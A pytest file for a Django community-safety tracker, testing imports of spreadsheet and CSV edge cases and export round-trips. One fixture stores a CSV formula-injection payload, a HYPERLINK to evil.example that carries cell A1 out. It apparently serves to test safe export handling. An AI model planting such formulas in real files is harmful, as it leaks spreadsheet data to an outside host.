"""The real files of the 2026-11-30 and 2026-12-06 hunts (tests/data/cases/, copied from the shared cases
folder), each imported through the pages a partner or the Working Group uses, with the value the sheet shows
asserted."""

from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from actions.models import ProgressUpdate
from csa_tracker.audit.models import AuditEntry
from cycles.models import CycleState
from indicators.models import IndicatorReading, Population
from tests.factories import (
    ActionFactory,
    GeographyFactory,
    IndicatorFactory,
    ProgressUpdateFactory,
    ReadingFactory,
    StatusFactory,
)
from tests.paths import DATA
from tests.spreadsheet_files import (
    READING_HEADER,
    csv_bytes,
    csv_rows,
    data_rows,
    edit_part,
    preview,
    row_errors,
    settings_preview,
    upload,
    xlsx_rows,
)
from workflow.models import ReviewState

CASES = DATA / "cases"
ASB = "Anti-social behaviour"


def case(name: str) -> bytes:
    return (CASES / name).read_bytes()


@pytest.fixture
def kent(world):
    """Kent, three of its districts, and Medway outside it (a unitary area of Kent and Medway)."""
    kent = world.indicator.geography
    for name in ("Maidstone", "Shepway", "Canterbury"):
        GeographyFactory(name=name, kind="district", parent=kent)
    GeographyFactory(
        name="Medway",
        kind="unitary",
        parent=GeographyFactory(partnership=world.partnership, name="Kent and Medway", kind="force_area"),
    )
    return kent


@pytest.fixture
def case_indicators(world, kent):
    """As 00-setup-indicators.py: two indicators the partner's organisation leads."""
    asb = IndicatorFactory(
        partnership=world.partnership,
        slug="asb-monthly-district",
        name="ASB incidents per district (monthly)",
        unit="count",
        period_type="month",
        geography=kent,
    )
    repeat = IndicatorFactory(
        partnership=world.partnership,
        slug="repeat-victims-pct",
        name="Repeat victims of domestic abuse (%)",
        unit="percentage",
        period_type="financial_year",
        geography=kent,
    )
    for indicator in (asb, repeat):
        indicator.leads.set([world.own_org])
    return asb, repeat


@pytest.fixture
def visitors(world, kent):
    """The demo's "Visitors to One Stop Shops" (July–June), with its published 2016/17 figure of 3,200."""
    indicator = IndicatorFactory(
        partnership=world.partnership, name="Visitors to One Stop Shops", period_type="jul_jun", geography=kent
    )
    indicator.leads.set([world.own_org])
    ReadingFactory(indicator=indicator, period_start=date(2016, 7, 1), period_end=date(2017, 6, 30), value=3200)
    return indicator


def police_preview(client, world, indicator, data: bytes, name: str):
    return preview(client, world.partnership, data, kind="police", crime_type=ASB, indicator=indicator.pk, name=name)


# Each month: the county total (the indicator's own area is Kent) and every district it is reported for,
# 0 where the file has no crime of the type there (issue 25).
EXPECTED_COUNTS = [
    ("ASB incidents per district (monthly), Kent, April 2017", "5"),
    ("ASB incidents per district (monthly), Canterbury, April 2017", "1"),
    ("ASB incidents per district (monthly), Maidstone, April 2017", "3"),
    ("ASB incidents per district (monthly), Shepway, April 2017", "1"),
    ("ASB incidents per district (monthly), Kent, May 2017", "1"),
    ("ASB incidents per district (monthly), Canterbury, May 2017", "0"),
    ("ASB incidents per district (monthly), Maidstone, May 2017", "1"),
    ("ASB incidents per district (monthly), Shepway, May 2017", "0"),
]
EXPECTED_SKIPPED = [("(no location)", 1), ("Medway", 1), ("Wealden", 1)]


def test_02_police_file_resaved_by_excel_counts_as_the_csv(world, client, case_indicators):
    """Excel turned the Month cells into dates; the counts per district and month are the CSV's."""
    asb, _ = case_indicators
    client.force_login(world.users["partner"])
    from_csv, _ = police_preview(client, world, asb, case("17-small-district-counts-police.csv"), "street.csv")
    page, url = police_preview(client, world, asb, case("02-police-excel-resaved.xlsx"), "street.xlsx")
    rows = page.context["preview"].rows
    assert [(row.label, row.changes[0][2]) for row in rows] == EXPECTED_COUNTS
    assert [(row.label, row.changes) for row in rows] == [
        (row.label, row.changes) for row in from_csv.context["preview"].rows
    ]
    assert page.context["preview"].skipped == EXPECTED_SKIPPED
    client.post(url)
    readings = IndicatorReading.objects.filter(indicator=asb).order_by("period_end", "geography__name")
    assert [(r.geography.name, r.period_end, r.value) for r in readings] == [
        ("Canterbury", date(2017, 4, 30), 1),
        ("Kent", date(2017, 4, 30), 5),
        ("Maidstone", date(2017, 4, 30), 3),
        ("Shepway", date(2017, 4, 30), 1),
        ("Canterbury", date(2017, 5, 31), 0),
        ("Kent", date(2017, 5, 31), 1),
        ("Maidstone", date(2017, 5, 31), 1),
        ("Shepway", date(2017, 5, 31), 0),
    ]


def test_02_a_police_month_that_is_not_a_month_names_the_files_own_column(world, client, case_indicators):
    from openpyxl import load_workbook

    from tests.spreadsheet_files import xlsx_bytes

    sheet = load_workbook(CASES / "02-police-excel-resaved.xlsx").active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    rows[3][1] = "sometime"
    client.force_login(world.users["partner"])
    response = upload(
        client, world.partnership, xlsx_bytes(rows), kind="police", crime_type=ASB, indicator=case_indicators[0].pk
    )
    (error,) = response.context["form"].errors["file"]
    assert "Month, row 4: “sometime” is not a month such as 2018-01" in error
    assert "Period end" not in error


def test_03_windows_1252_progress_arrives_as_typed(world, client):
    action = ActionFactory(plan_priority=world.plan_priority, leads=[world.own_org])
    StatusFactory(partnership=world.partnership, name="In progress")
    data = case("03-cp1252-progress.csv")
    assert data.count(b"\r\n3,In progress,") == 1
    data = data.replace(b"\r\n3,", f"\r\n{action.pk},".encode())  # the demo's action 3 is this test's action
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, data, kind="updates")
    typed = (
        "Counselling sessions – 42 clients seen; “waiting list” cut to 3 weeks. £12,500 grant (~€14,000) "
        "confirmed. • Partners’ feedback positive."
    )
    assert page.context["preview"].rows[0].changes[-1] == ("Progress", None, typed)
    client.post(url)
    update = ProgressUpdate.objects.get(action=action, state=ReviewState.SUBMITTED)
    assert update.text == typed
    assert not any("\x80" <= char <= "\x9f" for char in update.text)  # no C1 control characters


def test_04_a_percent_cell_is_the_percentage_the_sheet_shows(world, client, case_indicators):
    _, repeat = case_indicators
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("04-percent-cell.xlsx"), name="percent.xlsx")
    (row,) = page.context["preview"].rows
    assert ("Value", None, "12.5") in row.changes
    client.post(url)
    reading = IndicatorReading.objects.get(indicator=repeat)
    assert (reading.value, reading.period_end, reading.display_value) == (Decimal("12.5"), date(2018, 3, 31), "12.5%")
    client.force_login(world.users["working_group"])
    review = client.get(reverse("review_reading", kwargs={"partnership": world.partnership.slug, "pk": reading.pk}))
    assert "12.5%" in review.content.decode()


def test_05_a_formula_without_a_saved_value_is_a_row_error_naming_the_cell(world, client, visitors):
    client.force_login(world.users["working_group"])
    page, url = preview(client, world.partnership, case("05-formula-no-cached-value.xlsx"), name="formula.xlsx")
    assert row_errors(page) == [
        (
            2,
            "Value",
            "D2: a formula without a saved value (the file was written by a program, not saved by a spreadsheet): "
            "open and save the file in Excel, then upload it again.",
        )
    ]
    text = page.content.decode()
    assert "nothing to import" not in text and "Confirm" not in text
    before = IndicatorReading.objects.count()
    client.post(url)
    assert IndicatorReading.objects.count() == before


def test_06_rows_that_only_carry_formatting_are_ignored(world, client, visitors):
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("06-formatted-empty-rows.xlsx"), name="formatted.xlsx")
    result = page.context["preview"]
    assert result.counts == {"new": 0, "changed": 1, "unchanged": 0, "read_only": 0, "error": 0}
    assert [(row.number, row.changes) for row in result.rows] == [
        (
            2,
            [
                ("Value", "3200", "3450"),
                ("Approximate", "No", "Yes"),
                ("Source note", "(blank)", "Kent Community Safety Team"),
            ],
        )
    ]
    client.post(url)
    assert visitors.readings.get(state=ReviewState.SUBMITTED).value == 3450


def test_07_a_no_break_space_separates_thousands_like_a_space(world, client, visitors):
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("07-nbsp-thousands.csv"))
    assert page.context["preview"].rows[0].changes[0] == ("Value", None, "1234")
    client.post(url)
    assert visitors.readings.get(period_end=date(2011, 6, 30)).value == 1234


def export_rows(client, world, name: str, fmt: str) -> list[list]:
    url = reverse("export_list", kwargs={"partnership": world.partnership.slug, "name": name, "fmt": fmt})
    response = client.get(url)
    return xlsx_rows(response.content) if fmt == "xlsx" else csv_rows(response.content)


def test_17_small_district_counts_read_fewer_than_5_in_the_readings_export(world, client, case_indicators):
    asb, _ = case_indicators
    client.force_login(world.users["partner"])
    _, url = police_preview(client, world, asb, case("17-small-district-counts-police.csv"), "street.csv")
    client.post(url)
    client.force_login(world.users["working_group"])
    for reading in IndicatorReading.objects.filter(indicator=asb):
        review = reverse("review_reading", kwargs={"partnership": world.partnership.slug, "pk": reading.pk})
        client.post(review, {"decision": "publish", "version": reading.version})
    assert set(IndicatorReading.objects.filter(indicator=asb).values_list("state", flat=True)) == {"published"}
    for role in ("governing", "partner", "working_group", "admin"):
        client.force_login(world.users[role])
        for fmt in ("csv", "xlsx"):
            rows = export_rows(client, world, "readings", fmt)
            values = {(row[1], str(row[2])[:10]): row[3] for row in rows[1:] if row[0] == asb.name}
            assert values == {
                ("Canterbury", "2017-04-30"): "fewer than 5",
                ("Maidstone", "2017-04-30"): "fewer than 5",
                ("Shepway", "2017-04-30"): "fewer than 5",
                ("Canterbury", "2017-05-31"): "fewer than 5",
                ("Maidstone", "2017-05-31"): "fewer than 5",
                ("Shepway", "2017-05-31"): "fewer than 5",
                # The county's total is not a district count: shown (the districts behind it stay hidden).
                ("Kent", "2017-04-30"): 5 if fmt == "xlsx" else "5",  # a count, never "5.00"
                ("Kent", "2017-05-31"): 1 if fmt == "xlsx" else "1",
            }, (role, fmt)
    page = client.get(reverse("indicator_page", kwargs={"partnership": world.partnership.slug, "slug": asb.slug}))
    assert "fewer than 5" in page.content.decode()
    # The partner's export, imported back unchanged: "fewer than 5" keeps the figure recorded.
    client.force_login(world.users["partner"])
    url = reverse("export_list", kwargs={"partnership": world.partnership.slug, "name": "readings", "fmt": "csv"})
    exported = client.get(url).content
    page, _ = preview(client, world.partnership, exported)
    # Every row the partner's to write, but the other council's published figure, theirs to read only.
    rows = data_rows(exported, "csv")
    assert page.context["preview"].counts == {"new": 0, "changed": 0, "unchanged": rows - 1, "read_only": 1, "error": 0}
    # Written over a figure that is not hidden, it is refused: it is not a figure.
    reading = IndicatorReading.objects.get(indicator=asb, geography__name="Maidstone", period_end=date(2017, 4, 30))
    IndicatorReading.objects.filter(pk=reading.pk).update(value=7)
    rows = [["ASB incidents per district (monthly)", "Maidstone", "2017-04-30", "fewer than 5", "No", ""]]
    page, _ = preview(client, world.partnership, csv_bytes([READING_HEADER, *rows]))
    assert [column for _, column, _ in row_errors(page)] == ["Value"]
    assert "is how pages show a small count, not a figure" in row_errors(page)[0][2]


@pytest.fixture
def exported_draft(world):
    """What 19-roundtrip-unchanged-export.csv was exported from: action 20's draft, typed in a browser (CRLF)."""
    action = ActionFactory(
        pk=20,
        plan_priority=world.plan_priority,
        wording="Provide four online safety awareness sessions during 2017/18 to partners from across the County",
        leads=[world.own_org],
        status=StatusFactory(partnership=world.partnership, name="In progress"),
    )
    return ProgressUpdateFactory(
        action=action,
        cycle=world.cycle,  # "Q4 2017/18"
        author=world.users["partner"],
        organisation=world.own_org,
        status=action.status,
        text='=HYPERLINK("http://evil.example/?d="&A1,"Click for details")\r\n\r\n- second line as a bullet',
    )


def test_19_an_unchanged_export_imports_as_nothing_to_import(world, client, exported_draft):
    client.force_login(world.users["partner"])
    page, _ = preview(client, world.partnership, case("19-roundtrip-unchanged-export.csv"), kind="updates")
    assert page.context["preview"].counts == {"new": 0, "changed": 0, "unchanged": 1, "read_only": 0, "error": 0}
    text = page.content.decode()
    assert "there is nothing to import" in text and "Confirm" not in text


def test_19_a_change_in_a_locked_cycle_is_refused_in_the_preview(world, client, exported_draft):
    world.cycle.state = CycleState.LOCKED
    world.cycle.save()
    changed = case("19-roundtrip-unchanged-export.csv").replace(b"second line", b"third line")
    client.force_login(world.users["partner"])
    page, _ = preview(client, world.partnership, changed, kind="updates")
    assert row_errors(page) == [
        (
            2,
            "",
            "The reporting cycle “Q4 2017/18” is locked: the Working Group must reopen it before this progress "
            "update can change.",
        )
    ]
    assert "Confirm" not in page.content.decode()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("role", "name"), [("partner", "updates"), ("partner", "readings"), ("working_group", "actions")]
)
def test_19_every_export_reimported_unchanged_is_nothing_to_import(world, client, exported_draft, role, name, fmt):
    """The partner's exports list other organisations' published work, which they may only read: those
    rows are skipped with a note, never errors."""
    client.force_login(world.users[role])
    url = reverse("export_list", kwargs={"partnership": world.partnership.slug, "name": name, "fmt": fmt})
    exported = client.get(url).content
    page, confirm = preview(client, world.partnership, exported, kind=name, name=f"export.{fmt}")
    # The partner may only read the other council's published update or reading; the rest is theirs.
    read_only = 1 if role == "partner" else 0
    rows = data_rows(exported, fmt)
    assert page.context["preview"].counts == {
        "new": 0,
        "changed": 0,
        "unchanged": rows - read_only,
        "read_only": read_only,
        "error": 0,
    }
    text = page.content.decode()
    assert "there is nothing to import" in text and "Confirm" not in text
    if role == "partner":
        assert "about work you may only read" in text


# The real files of 2026-12-06 (tests/data/cases/B*): each one kind of fault, imported as a person does.

KENT_DISTRICTS = {
    "Ashford": "E07000105",
    "Canterbury": "E07000106",
    "Dartford": "E07000107",
    "Dover": "E07000108",
    "Gravesham": "E07000109",
    "Maidstone": "E07000110",
    "Sevenoaks": "E07000111",
    "Shepway": "E07000112",  # Folkestone and Hythe since 2018; the ONS code stayed
    "Swale": "E07000113",
    "Thanet": "E07000114",
    "Tonbridge and Malling": "E07000115",
    "Tunbridge Wells": "E07000116",
}


@pytest.fixture
def districts(world, kent):
    """Kent's twelve districts with their ONS codes, as 00-setup-indicators-via-pages.py has them."""
    for name, code in KENT_DISTRICTS.items():
        area = GeographyFactory(partnership=world.partnership, name=name, kind="district", parent=kent)
        area.code = code
        area.save()
    return kent


def confirm(client, url):
    response = client.post(url)
    assert response.status_code == 302, response.context["form"].errors
    return response


def test_B01_a_percentage_formula_reads_as_the_sheet_shows_it(world, client, case_indicators):
    """=248/1990 formatted 0.0% shows 12.5%: the preview says 12.5 and Confirm stores 12.5, not 12.46."""
    _, repeat = case_indicators
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("B01-percent-formula-rounded-display.xlsx"), name="b01.xlsx")
    (row,) = page.context["preview"].rows
    assert (row.label, row.changes[0]) == (
        "Repeat victims of domestic abuse (%), Kent, 2016/17 (Apr–Mar)",
        ("Value", None, "12.5"),
    )
    confirm(client, url)
    reading = IndicatorReading.objects.get(indicator=repeat)
    assert (reading.value, reading.period_end, reading.state) == (Decimal("12.5"), date(2017, 3, 31), "submitted")


def test_B02_a_count_averaged_by_formula_reads_as_the_whole_number_shown(world, client, visitors):
    """(3412+3467+3470)/3 formatted #,##0 shows 3,450: stored 3450, never 3449.67."""
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("B02-count-formula-rounded-display.xlsx"), name="b02.xlsx")
    (row,) = page.context["preview"].rows
    assert row.changes[:2] == [("Value", None, "3450"), ("Approximate", None, "Yes")]
    confirm(client, url)
    reading = visitors.readings.get(period_end=date(2015, 6, 30))
    assert (reading.value, reading.approximate) == (Decimal("3450"), True)


def test_B02_a_count_shown_with_decimals_is_refused_as_not_whole(world, client, visitors):
    """The same cell formatted #,##0.00 shows 3,449.67: a count is a whole number, so the row is refused."""
    # Format Cells → Number with 2 decimal places: the styles part says #,##0.00 (built-in 4) for #,##0 (3).
    data = edit_part(case("B02-count-formula-rounded-display.xlsx"), "xl/styles.xml", b'numFmtId="3"', b'numFmtId="4"')
    client.force_login(world.users["partner"])
    page, _ = preview(client, world.partnership, data, name="b02.xlsx")
    assert row_errors(page) == [
        (
            2,
            "Value",
            "3449.67 is not a whole number; “Visitors to One Stop Shops” counts, and a count is a whole number.",
        )
    ]
    assert "Confirm" not in page.content.decode()


def test_B08_a_name_merged_over_three_rows_names_each_row(world, client, case_indicators, districts):
    asb, _ = case_indicators
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("B08-merged-indicator-cells.xlsx"), name="b08.xlsx")
    assert [(row.number, row.label, row.changes[0]) for row in page.context["preview"].rows] == [
        (2, "ASB incidents per district (monthly), Ashford, September 2017", ("Value", None, "41")),
        (3, "ASB incidents per district (monthly), Canterbury, September 2017", ("Value", None, "57")),
        (4, "ASB incidents per district (monthly), Dartford, September 2017", ("Value", None, "38")),
    ]
    confirm(client, url)
    stored = asb.readings.order_by("geography__name").values_list("geography__name", "period_end", "value")
    assert list(stored) == [
        ("Ashford", date(2017, 9, 30), Decimal("41")),
        ("Canterbury", date(2017, 9, 30), Decimal("57")),
        ("Dartford", date(2017, 9, 30), Decimal("38")),
    ]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        # A "Read me" tab first and the data on the "Data" tab: the Data tab is read, and the page says so.
        ("B09-notes-sheet-first.xlsx", "Read sheet “Data” of B09-notes-sheet-first.xlsx."),
        # LibreOffice Calc's own format: its date cell and its "3,610" read as displayed.
        ("B12-libreoffice-default-save.ods", "Read sheet “Sheet1” of B12-libreoffice-default-save.ods."),
    ],
)
def test_B09_B12_the_sheet_with_the_header_is_read_whatever_the_format(world, client, visitors, name, shown):
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case(name), name=name)
    assert shown in page.content.decode()
    (row,) = page.context["preview"].rows
    assert (row.label, row.changes[0]) == (
        "Visitors to One Stop Shops, Kent, 2017/18 (Jul–Jun)",
        ("Value", None, "3610"),
    )
    confirm(client, url)
    assert visitors.readings.get(period_end=date(2018, 6, 30)).value == 3610


def test_B09_a_refusal_names_the_sheet_read(world, client, visitors):
    from tests.spreadsheet_files import xlsx_bytes

    client.force_login(world.users["partner"])
    response = upload(client, world.partnership, xlsx_bytes([["How to fill in this return"], ["Use the Data tab."]]))
    (error,) = response.context["form"].errors["file"]
    assert error.startswith("The columns do not match the template: missing columns “Indicator”, “Area”,")
    assert error.endswith("(row 1 of sheet “Sheet” was read as the header).")


def test_B13_a_csv_with_semicolons_between_fields_is_read(world, client, visitors):
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("B13-libreoffice-semicolon.csv"), name="b13.csv")
    (row,) = page.context["preview"].rows
    assert row.changes == [
        ("Value", None, "3610"),
        ("Approximate", None, "No"),
        ("Source note", None, "One Stop Shop returns, all sites"),
    ]
    confirm(client, url)
    reading = visitors.readings.get(period_end=date(2018, 6, 30))
    assert (reading.value, reading.source_note) == (3610, "One Stop Shop returns, all sites")


def test_B13_a_decimal_comma_in_a_semicolon_csv_is_a_decimal_point(world, client, case_indicators):
    _, repeat = case_indicators
    data = b"Indicator;Area;Period end;Value;Approximate;Source note\r\n" + (
        b"Repeat victims of domestic abuse (%);Kent;31/03/2018;12,5;No;\r\n"
    )
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, data)
    assert page.context["preview"].rows[0].changes[0] == ("Value", None, "12.5")
    confirm(client, url)
    assert repeat.readings.get().value == Decimal("12.5")


POPULATION_FOOTNOTE_ERRORS = [
    (
        "Area code",
        "No area of this partnership has the code “Contains public sector information licensed under the Open "
        "Government Licence v3.0.” or the name “”: add it first.",
    ),
    ("Year", "is blank; every row needs the year of its estimate."),
    ("Population", "is blank; every row needs its population."),
]


def test_B17_title_rows_above_the_header_are_passed_over_and_the_footnote_refused(world, client, districts):
    client.force_login(world.users["working_group"])
    data = case("B17-ons-title-rows-footnote.csv")
    page, url = settings_preview(client, world.partnership, data, kind="populations", name="b17.csv")
    assert "Read b17.csv, its header on row 4 (the rows above it are passed over)." in page.content.decode()
    rows = page.context["preview"].rows
    assert [(row.number, row.status, row.label, row.changes) for row in rows[:3]] == [
        (5, "new", "Ashford, 2017", [("Population", None, "127,600")]),
        (6, "new", "Maidstone, 2017", [("Population", None, "169,900")]),
        (7, "new", "Shepway, 2018", [("Population", None, "112,996")]),
    ]
    assert [(rows[3].number, error) for error in rows[3].errors] == [(9, e) for e in POPULATION_FOOTNOTE_ERRORS]
    client.post(url)
    assert not Population.objects.filter(geography__partnership=world.partnership).exists()


@pytest.mark.parametrize("page_kind", ["populations-page", "populations"])
def test_B17b_both_population_imports_read_the_file_the_same_way(world, client, districts, page_kind):
    """(a) Areas → Import populations and (b) Configuration spreadsheets → Populations: by ONS code (Shepway
    under its new name), "127,600" as 127600, the blank row skipped, the footnote an error on its own row."""
    client.force_login(world.users["working_group"])
    data = case("B17b-ons-thousands-code-footnote.csv")
    page, url = settings_preview(client, world.partnership, data, kind=page_kind, name="b17b.csv")
    rows = page.context["preview"].rows
    assert [(row.number, row.status, row.label, row.changes) for row in rows] == [
        (2, "new", "Ashford, 2017", [("Population", None, "127,600")]),
        (3, "new", "Maidstone, 2017", [("Population", None, "169,900")]),
        (4, "new", "Shepway, 2018", [("Population", None, "112,996")]),
        (6, "error", "", []),
    ]
    assert rows[3].errors == POPULATION_FOOTNOTE_ERRORS
    assert "nothing can be imported" in page.content.decode()
    # Without the footnote the same file is written, every figure with its audit entry.
    cleaned = data.replace(
        b"Contains public sector information licensed under the Open Government Licence v3.0.,,,\r\n", b""
    )
    _, url = settings_preview(client, world.partnership, cleaned, kind=page_kind, name="b17b.csv")
    assert client.post(url).status_code == 302
    stored = Population.objects.filter(geography__partnership=world.partnership).order_by("geography__name")
    assert list(stored.values_list("geography__name", "year", "value")) == [
        ("Ashford", 2017, 127_600),
        ("Maidstone", 2017, 169_900),
        ("Shepway", 2018, 112_996),
    ]
    assert AuditEntry.objects.filter(verb="edit", summary__contains="population of").count() == 3


def test_B18_month_cells_as_excel_writes_them_into_a_csv(world, client, case_indicators, districts):
    """Apr-18, a date serial, April 2018 and 30-Apr-18 are April 2018 by the one period rule the police
    import uses too; a quarter is not a month of a monthly indicator, and says so."""
    asb, _ = case_indicators
    client.force_login(world.users["partner"])
    data = case("B18-readings-period-forms-excel-csv.csv")
    page, _ = preview(client, world.partnership, data, name="b18.csv")
    assert [(row.number, row.label, row.changes[:1]) for row in page.context["preview"].rows] == [
        (2, "ASB incidents per district (monthly), Ashford, April 2018", [("Value", None, "51")]),
        (3, "", []),
        (4, "ASB incidents per district (monthly), Dartford, April 2018", [("Value", None, "38")]),
        (5, "ASB incidents per district (monthly), Dover, April 2018", [("Value", None, "44")]),
        (6, "ASB incidents per district (monthly), Gravesham, April 2018", [("Value", None, "29")]),
    ]
    assert row_errors(page) == [
        (
            3,
            "Period end",
            "“Q1 2018/19” is a quarter; “ASB incidents per district (monthly)” is reported per month, so give "
            "its period's end.",
        )
    ]
    without_quarter = b"\r\n".join(line for line in data.split(b"\r\n") if b"Q1 2018/19" not in line)
    _, url = preview(client, world.partnership, without_quarter, name="b18.csv")
    confirm(client, url)
    stored = asb.readings.order_by("geography__name").values_list("geography__name", "period_end", "value")
    assert list(stored) == [
        ("Ashford", date(2018, 4, 30), 51),
        ("Dartford", date(2018, 4, 30), 38),
        ("Dover", date(2018, 4, 30), 44),
        ("Gravesham", date(2018, 4, 30), 29),
    ]
